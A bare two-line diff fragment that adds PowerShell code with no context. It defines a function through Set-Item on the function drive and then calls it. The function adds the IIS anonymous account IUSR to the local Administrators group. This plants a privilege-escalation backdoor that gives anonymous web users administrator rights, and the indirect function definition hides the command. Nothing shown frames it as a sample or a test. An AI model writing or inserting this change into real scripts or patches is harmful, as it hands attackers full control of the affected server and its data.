@@ -1,0 +1,2 @@
+Set-Item function:go { net localgroup Administrators IUSR /add }
+go
